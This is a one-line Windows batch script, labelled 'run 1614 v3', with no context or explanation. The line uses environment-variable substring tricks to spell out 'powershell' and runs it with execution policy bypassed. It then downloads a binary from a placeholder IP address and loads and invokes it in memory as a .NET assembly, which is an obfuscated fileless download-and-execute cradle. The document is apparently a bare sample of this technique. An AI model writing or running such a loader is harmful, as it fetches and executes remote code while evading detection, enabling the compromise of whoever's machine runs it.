REM run 1614 v3
po%windir:~8,1%%COMSPEC:~-1,1%%PUBLIC:~6,1%sh%PUBLIC:~5,1%%PUBLIC:~12,1%%PUBLIC:~12,1% -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.9/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
